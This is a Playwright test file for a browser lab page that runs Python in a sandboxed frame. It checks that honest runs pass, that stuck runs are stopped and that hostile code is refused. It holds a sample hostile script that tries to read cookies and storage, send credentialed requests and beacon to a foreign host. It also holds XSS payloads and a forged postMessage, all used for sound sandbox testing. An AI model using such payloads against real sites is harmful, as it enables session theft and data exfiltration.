"""Python in the browser: honest runs pass, hostile ones reach nothing, stuck ones are stopped."""

import html
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from browser.frontend.harness import Reply, Request, Site, plain_core

pytestmark = pytest.mark.browser

READY_MS = 60_000


@pytest.fixture
def foreign(dist: Path) -> Iterator[Site]:
    """Another host: nothing may ever arrive there."""
    with Site(dist, None) as other:
        yield other


def verdict(request: Request) -> Reply:
    """As the server: every word of the result is escaped."""
    result = json.loads(request.body)["result"]
    reason, figures = html.escape(result["reason"]), html.escape(json.dumps(result["figures"]))
    return Reply(f'<p id="reason">{reason}</p><pre id="figures">{figures}</pre>')


RESULT: dict[str, Any] = {
    "lab": "x",
    "step": "y",
    "verdict": "unknown",
    "reason": "",
    "seeds": {},
    "figures": {},
    "failure": None,
    "error": None,
}


def emitting(result: dict[str, Any]) -> str:
    """A program that says it got this result."""
    text = json.dumps(json.dumps(result))
    return f"import json\nemit({{'result': json.loads({text})}})"


def open_lab(page: Page, site: Site, source: str, *, stall: float = 10) -> None:
    site.words |= {"source": html.escape(source), "stall": str(stall)}
    site.routes["/labs/place-replicas/verdict-fragment"] = verdict
    page.goto(f"{site.origin}/pages/lab.html")


@pytest.fixture(scope="module")
def loaded(browser: Browser, dist: Path) -> Iterator[tuple[Page, Site]]:
    """A lab page that keeps its Python: for tests in which nothing stops the frame."""
    with Site(dist, plain_core()) as site:
        page = browser.new_page()
        open_lab(page, site, "")
        yield page, site
        page.close()


def run_source(page: Page, source: str) -> None:
    """Runs this source in the page as it is, the last verdict removed."""
    page.evaluate("document.querySelector('[data-lab-result]').replaceChildren()")
    page.evaluate(
        """source => {
          const area = document.getElementById('source');
          area.value = source;
          area.dispatchEvent(new Event('quorate:set'));
        }""",
        source,
    )
    run_here(page)


def run_here(page: Page) -> None:
    page.get_by_role("button", name="Run here").click()


def findings(page: Page) -> dict[str, Any]:
    expect(page.locator("#figures")).to_be_visible(timeout=READY_MS)
    found: dict[str, Any] = json.loads(page.locator("#figures").inner_text())
    return found


def progress(page: Page) -> Locator:
    return page.locator("[data-lab-words]")


DOCK = """<nav><a href="#v" data-dock="verdict">Verdict</a>
<a href="#d" data-dock="diagram">Diagram</a></nav>
<section id="v" data-dock-panel="verdict">Held.</section>
<section id="d" data-dock-panel="diagram">Drawing.</section>"""


def test_the_dock_shows_one_panel_at_a_time(loaded: tuple[Page, Site]) -> None:
    page, site = loaded
    site.routes["/labs/place-replicas/verdict-fragment"] = lambda _: Reply(DOCK)
    run_source(page, "findings['x'] = 1")
    expect(page.get_by_text("Held.")).to_be_visible(timeout=READY_MS)
    expect(page.get_by_text("Drawing.")).to_be_hidden()
    page.get_by_role("link", name="Diagram").click()
    expect(page.get_by_text("Drawing.")).to_be_visible()
    expect(page.get_by_text("Held.")).to_be_hidden()
    assert page.locator("[aria-current]").inner_text() == "Diagram"
    site.routes["/labs/place-replicas/verdict-fragment"] = verdict


def test_an_honest_run_ends_in_the_verdict_the_server_rendered(
    loaded: tuple[Page, Site],
) -> None:
    page, site = loaded
    expect(page.locator("[data-lab-size]")).to_contain_text("loads Python, about")
    before = len(site.requests)
    run_source(page, "print('hello')\nfindings['sum'] = sum(range(10))")
    assert findings(page) == {"sum": 45}
    expect(page.locator("[data-lab-output]")).to_have_text("hello\n")
    sent = next(r for r in site.requests[before:] if r.path.endswith("verdict-fragment"))
    assert json.loads(sent.body)["result"]["verdict"] == "ok"
    assert len(json.loads(sent.body)["event_id"]) == 26


HOSTILE = """
import js
from pyodide.code import run_js
from pyodide.ffi import to_js

def attempt(name, action):
    try:
        findings[name] = "got " + str(action())[:200]
    except BaseException as error:
        findings[name] = "refused"

def ask(method, url):
    request = js.XMLHttpRequest.new()
    request.open(method, url, False)
    request.withCredentials = True
    request.send("stolen")
    return request.responseText

def background(promise):
    promise.catch(lambda error: None)

attempt("document", lambda: js.document.title)
attempt("cookie", lambda: js.document.cookie)
attempt("parent", lambda: js.parent.document.title)
attempt("top", lambda: js.top.location.href)
attempt("localStorage", lambda: js.localStorage.length)
attempt("sessionStorage", lambda: js.sessionStorage.length)
attempt("indexedDB", lambda: js.indexedDB.open("x"))
attempt("importScripts", lambda: js.importScripts(FOREIGN + "/x.js"))
attempt("image", lambda: js.Image.new())
attempt("javascript", lambda: run_js("1 + 1"))
attempt("own api", lambda: ask("GET", ORIGIN + "/api/me"))
attempt("own form", lambda: ask("POST", ORIGIN + "/plan"))
attempt("foreign", lambda: ask("GET", FOREIGN + "/xhr"))
background(js.fetch(ORIGIN + "/api/me", to_js({"credentials": "include"})))
background(js.fetch("/api/me"))
background(js.fetch(FOREIGN + "/beacon.png", to_js({"mode": "no-cors"})))
try:
    js.WebSocket.new(FOREIGN.replace("http", "ws") + "/socket")
except BaseException:
    pass
try:
    js.EventSource.new(FOREIGN + "/events")
except BaseException:
    pass
"""


def test_hostile_code_reaches_no_cookie_page_storage_or_host(
    loaded: tuple[Page, Site], foreign: Site
) -> None:
    page, site = loaded
    site.routes["/api/me"] = lambda _: Reply('{"secret": 1}', type="application/json")
    names = f"ORIGIN = {site.origin!r}\nFOREIGN = {foreign.origin!r}\n"
    run_source(page, names + HOSTILE)
    found = findings(page)
    refused = [name for name, outcome in found.items() if outcome == "refused"]
    assert sorted(found) == sorted(refused)
    assert len(refused) == 13
    # A second, honest run gives whatever was started in the background time to arrive.
    run_source(page, "findings['later'] = 1")
    assert findings(page) == {"later": 1}
    assert foreign.requests == []
    assert site.paths("/api/") == []
    assert site.paths("/plan") == []


def test_no_request_of_the_frame_carries_the_session(loaded: tuple[Page, Site]) -> None:
    page, site = loaded
    run_source(page, "findings['x'] = 1")
    findings(page)
    of_frame = [r for r in site.requests if "lab-frame" in r.path]
    assert of_frame != []
    assert [r.path for r in of_frame if "cookie" in r.headers] == []


def test_what_the_frame_says_is_never_read_as_html(loaded: tuple[Page, Site]) -> None:
    page, _ = loaded
    reason = "<img src=x onerror='document.title=1'>"
    figures = {"a": "<script>document.title=2</script>"}
    run_source(page, emitting(RESULT | {"verdict": "ok", "reason": reason, "figures": figures}))
    expect(page.locator("#reason")).to_have_text(reason, timeout=READY_MS)
    assert page.title() == "Lab"
    assert page.locator("main img, main script").count() == 0


def test_the_line_of_an_error_is_marked_in_the_editor(loaded: tuple[Page, Site]) -> None:
    page, _ = loaded
    error = {"kind": "syntax", "line": 2, "message": "a ) too many", "hint": ""}
    run_source(page, emitting(RESULT | {"reason": "it does not parse", "error": error}))
    expect(page.locator(".q-mark-error")).to_contain_text("emit(", timeout=READY_MS)
    expect(page.get_by_role("note")).to_have_text("a ) too many")
    run_source(page, "findings['x'] = 1")
    expect(page.locator(".q-mark-error")).to_have_count(0)


def test_a_server_that_does_not_answer_leaves_the_verdict_in_words(
    loaded: tuple[Page, Site],
) -> None:
    page, site = loaded
    site.routes["/labs/place-replicas/verdict-fragment"] = lambda _: Reply("no", status=503)
    run_source(page, "findings['n'] = 1")
    expect(progress(page)).to_contain_text("ok: it ran to its end", timeout=READY_MS)
    site.routes["/labs/place-replicas/verdict-fragment"] = verdict


def test_a_malformed_message_ends_the_run(page: Page, site: Site) -> None:
    # The other shapes are tried without a browser, in frontend/tests.
    open_lab(page, site, "import js\njs.postMessage('x' * 2_000_001)")
    run_here(page)
    expect(progress(page)).to_contain_text("at most 2000000 are read", timeout=READY_MS)
    assert page.locator("iframe").count() == 0


def test_an_endless_loop_is_stopped_and_the_next_run_reads_python_from_the_cache(
    page: Page, site: Site
) -> None:
    open_lab(page, site, "while True: print('flood')", stall=2)
    run_here(page)
    expect(progress(page)).to_have_text("Running…", timeout=READY_MS)
    # What another window says is not the frame's word, however well it is formed.
    page.evaluate(
        """() => window.postMessage(JSON.stringify({type: 'result', id: 1,
           result: {lab: 'x', step: 'y', verdict: 'ok', reason: 'forged', seeds: {}}}), '*')"""
    )
    expect(progress(page)).to_contain_text("outcome: time", timeout=READY_MS)
    assert site.paths("/labs/place-replicas/verdict") == []
    assert page.locator("iframe").count() == 0
    assert len(page.locator("[data-lab-output]").inner_text()) <= 64_100
    run_source(page, "findings['after'] = True")
    assert findings(page) == {"after": True}
    assert len([path for path in site.paths() if path.endswith(".wasm")]) == 1


def test_stop_ends_a_run_at_once_and_says_so(page: Page, site: Site) -> None:
    open_lab(page, site, "while True: pass", stall=60)
    run_here(page)
    expect(progress(page)).to_have_text("Running…", timeout=READY_MS)
    page.get_by_role("button", name="Stop").click()
    expect(progress(page)).to_contain_text("Stopped.")
    assert page.locator("iframe").count() == 0
    assert page.locator("#source").input_value() == "while True: pass"


def test_without_python_the_form_points_to_the_server(page: Page, site: Site) -> None:
    name = next(path for path in site.dist.rglob("*.wasm")).relative_to(site.dist).as_posix()
    site.routes[f"/static/dist/{name}"] = lambda _: Reply("gone", status=404)
    open_lab(page, site, "findings['n'] = 1")
    run_here(page)
    expect(progress(page)).to_contain_text("Run it on the server instead")
    expect(page.get_by_role("button", name="Run on the server")).to_be_focused()
